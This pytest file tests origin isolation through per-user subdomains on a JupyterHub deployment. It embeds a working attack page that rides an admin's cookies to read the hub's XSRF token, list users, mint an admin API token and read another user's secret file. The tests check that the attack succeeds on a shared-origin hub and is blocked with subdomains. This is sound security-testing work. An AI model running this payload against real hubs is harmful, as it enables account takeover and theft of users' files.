"""Origin isolation: with per-user subdomains, what a user serves cannot act with a visitor's cookies.

The attack, run for real in Chromium against real hubs: user A (untrusted) makes her own
server serve an HTML page without Jupyter's sandbox (one line in her
``~/.jupyter/jupyter_server_config.py``: her server is hers to configure) and sends its
link to the admin. The admin, logged in through the login form, has opened user B's
server before (admins help users). When the admin opens A's page, its script tries, with
the admin's browser and cookies, to

* read the hub's XSRF token (from a hub page), list the users and mint an admin API token;
* read B's file ``secret.txt`` through B's contents API (with that token: Jupyter pages
  refuse to be framed, and cookie-authenticated API calls need B's own XSRF token).

On the stock hub (one origin for the hub and every server) all of it works: that is the
finding. On a hub started with ``VRE_SUBDOMAIN_HOST`` the page runs on A's own origin
(``<a>.vre.localhost``; Chromium resolves ``*.localhost`` to loopback, no DNS needed) and
every step is refused by the browser or the hub. A's JupyterLab, reached through the login
form, is served from her subdomain; her name holds a dot, which the subdomain hook turns
into one DNS label (``vre_hub.subdomains``).
"""

import json
import re
import secrets
import shutil
import subprocess
from urllib.parse import quote, urlparse

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from jupyterhub.utils import subdomain_hook_idna

from vre_hub import naming, network
from vre_hub.client import HubClient
from vre_hub.launcher import HubProcess
from vre_hub.state import StateDir
from vre_hub.subdomains import subdomain_hook
from vre_testing import free_port, need
from widgets.lab import launch_chromium

DOMAIN = "vre.localhost"
DNS_LABEL = re.compile(r"[a-z0-9]([a-z0-9-]*[a-z0-9])?")

# A's page: each step records what it got; "blocked: ..." when the browser refused it.
EVIL_HTML = """<!doctype html><meta charset="utf-8"><title>running</title><pre id="out"></pre>
<script>
const q = new URLSearchParams(location.search);
const hub = q.get("hub"), other = q.get("other"), victim = q.get("victim");
const out = {};
async function attempt(name, step) {
  try { out[name] = await step(); } catch (e) { out[name] = "blocked: " + e; }
}
(async () => {
  let xsrf = null, stolen = null;
  await attempt("hub_xsrf", async () => {
    const page = await (await fetch(hub + "/hub/token", {credentials: "include"})).text();
    xsrf = (page.match(/xsrf_token: "([^"]+)"/) || [])[1] || null;
    return xsrf ? "read" : "no token in the page";
  });
  const headers = Object.assign({"Content-Type": "application/json"}, xsrf ? {"X-XSRFToken": xsrf} : {});
  await attempt("hub_users", async () => {
    const r = await fetch(hub + "/hub/api/users", {credentials: "include", headers});
    return r.status + " " + (r.ok ? (await r.json()).map(u => u.name).join(",") : "");
  });
  await attempt("hub_admin_token", async () => {
    const r = await fetch(hub + "/hub/api/users/" + victim + "/tokens",
      {method: "POST", credentials: "include", headers, body: JSON.stringify({note: "stolen"})});
    if (r.ok) stolen = (await r.json()).token;
    return r.status + " " + (stolen ? "token of " + stolen.length + " characters" : "");
  });
  await attempt("other_file", async () => {
    const r = await fetch(other + "api/contents/secret.txt",
      {credentials: "include", headers: stolen ? {"Authorization": "token " + stolen} : {}});
    return r.status + " " + (await r.text()).slice(0, 300);
  });
  window.result = out;
  document.getElementById("out").textContent = JSON.stringify(out, null, 1);
  document.title = "done";
})();
</script>
"""

# A's own server configuration: serve ~/www at /user/<a>/static/ (no sandbox there).
A_SERVER_CONFIG = 'c.ServerApp.extra_static_paths = ["/home/jovyan/www"]\n'


# --- the subdomain rule ----------------------------------------------------------------------


def test_stock_hook_puts_two_allowed_names_on_one_origin():
    """JupyterHub 5.5's 'idna' hook hashes dotted names into 7 hex digits: a search over
    allowed names finds two on one subdomain (one origin) in a fraction of a second.
    ``vre_hub.subdomains`` keeps them apart."""
    seen = {}
    for i in range(200_000):
        name = naming.check_name(f"marie.curie{i}")
        host = subdomain_hook_idna(name, DOMAIN, "user")
        if host in seen:
            break
        seen[host] = name
    else:
        pytest.fail("no collision found")
    first, second = seen[host], name
    assert subdomain_hook(first, DOMAIN, "user") != subdomain_hook(second, DOMAIN, "user")


_chunk = st.text("abcdefghijklmnopqrstuvwxyz0123456789", min_size=1, max_size=8)
ALLOWED_NAMES = st.builds(
    lambda first, rest: first + "".join(sep + chunk for sep, chunk in rest),
    _chunk, st.lists(st.tuples(st.sampled_from(".-_"), _chunk), max_size=4),
).filter(naming.is_allowed)


@settings(max_examples=400, deadline=None)
@given(st.lists(ALLOWED_NAMES, min_size=2, max_size=6, unique=True))
def test_every_allowed_name_gets_its_own_subdomain_label(names):
    hosts = [subdomain_hook(name, DOMAIN, "user") for name in names]
    assert len(set(hosts)) == len(hosts)
    for host in hosts:
        label, rest = host.split(".", 1)
        assert rest == DOMAIN and len(label) <= 63 and DNS_LABEL.fullmatch(label)
    services = [subdomain_hook(name, DOMAIN, "service") for name in names]
    assert not set(services) & set(hosts)


# --- the attack, in a browser ------------------------------------------------------------------


@pytest.fixture(scope="module")
def subdomain_hub(hub, tmp_path_factory):
    """A second hub, started as the ``hub`` fixture starts one (its settings, its own state
    folder, users' network and free ports), with VRE_SUBDOMAIN_HOST=http://vre.localhost:PORT."""
    port = free_port()
    env = {**hub.process.env, "VRE_SUBDOMAIN_HOST": f"http://{DOMAIN}:{port}"}
    if hub.network != network.HOST:
        env["VRE_NETWORK"] = f"vre-test-{secrets.token_hex(3)}"
    state = StateDir(tmp_path_factory.mktemp("subdomain-hub-state"))
    process = HubProcess(state, port=port, api_port=free_port(), proxy_api_port=free_port(), env=env)
    if hub.network == network.HOST:
        process.jobs_port = free_port()
    process.start()
    # The `hub` fixture's Hub class (conftest modules cannot be imported by name).
    sub = type(hub)(process, HubClient(process.url, state.admin_token), prefix=f"s{secrets.token_hex(2)}")
    try:
        yield sub
    finally:
        sub.stop()


def _write(user: str, path: str, content: str) -> None:
    """Write a file in ``user``'s running container as jovyan (what her terminal can do)."""
    result = subprocess.run(
        ["docker", "exec", "-i", "-u", "1000", naming.container_name(user), "sh", "-c",
         'mkdir -p "$(dirname "$0")" && cat > "$0"', f"/home/jovyan/{path}"],
        input=content, capture_output=True, text=True, timeout=30,
    )
    assert result.returncode == 0, result.stderr


class Site:
    """The admin (victim), attacker A and user B with a secret, on one hub."""

    def __init__(self, hub, subdomains: bool):
        self.hub = hub
        port = urlparse(hub.url).port
        self.hub_origin = f"http://{DOMAIN}:{port}" if subdomains else hub.url
        self.admin_password = secrets.token_urlsafe(12)
        self.admin, _ = hub.new_user(f"{hub.prefix}-boss", password=self.admin_password, admin=True)
        self.a_password = secrets.token_urlsafe(12)
        self.a, _ = hub.new_user(f"{hub.prefix}.ana", password=self.a_password)  # a dotted name
        self.b, _ = hub.new_user(f"{hub.prefix}-bob")
        self.secret = f"B's secret {secrets.token_hex(8)}"

        def server(name):
            host = subdomain_hook(name, DOMAIN, "user") if subdomains else urlparse(hub.url).hostname
            return f"http://{host}:{port}/user/{name}/"

        self.a_url, self.b_url = server(self.a), server(self.b)
        hub.client.start_server(self.b, wait=180)
        _write(self.b, "secret.txt", self.secret)
        hub.client.start_server(self.a, wait=180)
        _write(self.a, ".jupyter/jupyter_server_config.py", A_SERVER_CONFIG)
        _write(self.a, "www/evil.html", EVIL_HTML)
        hub.client.stop_server(self.a, wait=60)  # A restarts her server with her settings
        hub.client.start_server(self.a, wait=180)

    def evil_url(self) -> str:
        query = f"hub={quote(self.hub_origin)}&other={quote(self.b_url)}&victim={self.admin}"
        return f"{self.a_url}static/evil.html?{query}"


@pytest.fixture(scope="module")
def browser():
    need(shutil.which("chromium") is not None, "Debian chromium is not installed (apt-get install chromium)")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        browser = launch_chromium(playwright)
        yield browser
        browser.close()


def _log_in(page, hub_origin: str, name: str, password: str) -> None:
    page.goto(f"{hub_origin}/hub/login")
    page.fill("input[name=username]", name)
    page.fill("input[name=password]", password)
    with page.expect_navigation():
        page.click("input[type=submit], button[type=submit]")
    assert "/hub/login" not in page.url, f"login of {name} failed"


def _open_as_admin(page, url: str) -> None:
    """Open another user's server URL, confirming the hub's 'authorize access' page."""
    page.goto(url)
    if "/oauth2/authorize" in page.url:
        with page.expect_navigation():
            page.click("form [type=submit]")


def _attack(site: Site, browser, output_dir, mode: str) -> dict:
    context = browser.new_context()
    page = context.new_page()
    page.set_default_timeout(60_000)
    try:
        _log_in(page, site.hub_origin, site.admin, site.admin_password)
        _open_as_admin(page, f"{site.b_url}lab")  # log in to B's server (OAuth)
        page.goto(f"{site.b_url}api/contents/secret.txt")
        assert site.secret in page.content()  # the admin may read it: the cookie is in place
        page.goto(site.evil_url())
        page.wait_for_function("document.title === 'done'", timeout=90_000)
        result = page.evaluate("window.result")
        (output_dir / "security").mkdir(exist_ok=True)
        page.screenshot(path=output_dir / "security" / f"origin-{mode}.png")
        print(mode, json.dumps(result, indent=1))
        return result
    finally:
        context.close()


@pytest.fixture(scope="module")
def shared_site(hub):
    return Site(hub, subdomains=False)


@pytest.fixture(scope="module")
def subdomain_site(subdomain_hub):
    return Site(subdomain_hub, subdomains=True)


@pytest.mark.docker
@pytest.mark.browser
def test_on_one_origin_a_users_page_acts_as_the_admin(shared_site, browser, output_dir):
    """The finding, on the stock hub (no subdomains): A's page reads the hub's XSRF token,
    lists the users, mints an admin token and reads B's file, all as the admin."""
    site = shared_site
    result = _attack(site, browser, output_dir, "shared")
    assert result["hub_xsrf"] == "read"
    assert result["hub_users"].startswith("200 ") and site.b in result["hub_users"]
    assert result["hub_admin_token"].startswith("201 token")
    assert result["other_file"].startswith("200 ") and site.secret in result["other_file"]


@pytest.mark.docker
@pytest.mark.browser
def test_with_subdomains_a_users_page_gets_nothing(subdomain_site, subdomain_hub, browser, output_dir):
    site = subdomain_site
    assert urlparse(site.a_url).hostname.startswith("u-")  # the dotted name: one hashed label
    result = _attack(site, browser, output_dir, "subdomains")
    assert result["hub_xsrf"].startswith("blocked"), result  # cross-origin: unreadable
    assert not result["hub_users"].startswith("200"), result
    assert not result["hub_admin_token"].startswith("201"), result
    assert site.secret not in json.dumps(result), result
    assert result["other_file"].startswith("blocked"), result
    tokens = subdomain_hub.api("GET", f"/users/{site.admin}/tokens").json()["api_tokens"]
    assert not [t for t in tokens if t.get("note") == "stolen"]


@pytest.mark.docker
@pytest.mark.browser
def test_with_subdomains_a_users_lab_is_on_her_own_origin(subdomain_site, browser):
    """A logs in through the login form; her JupyterLab answers on her subdomain."""
    site = subdomain_site
    context = browser.new_context()
    page = context.new_page()
    page.set_default_timeout(90_000)
    try:
        _log_in(page, site.hub_origin, site.a, site.a_password)
        page.goto(f"{site.a_url}lab")
        page.wait_for_selector(".jp-Launcher", timeout=120_000)
        assert urlparse(page.url).hostname == urlparse(site.a_url).hostname
        assert urlparse(page.url).path.startswith(f"/user/{site.a}/lab")
    finally:
        context.close()


@pytest.mark.docker
@pytest.mark.browser
def test_with_subdomains_the_jobs_page_is_on_its_own_origin(subdomain_site, browser):
    """Hub-managed services get a subdomain too: the jobs page (which shows job folders'
    contents) answers, signed in through the hub, on ``jobs--service.<domain>``."""
    site = subdomain_site
    port = urlparse(site.hub_origin).port
    jobs = f"http://{subdomain_hook('jobs', DOMAIN, 'service')}:{port}/services/jobs/"
    context = browser.new_context()
    page = context.new_page()
    page.set_default_timeout(60_000)
    try:
        _log_in(page, site.hub_origin, site.admin, site.admin_password)
        page.goto(jobs)
        page.wait_for_selector("text=Signed in as")
        assert urlparse(page.url).hostname == "jobs--service." + DOMAIN
    finally:
        context.close()
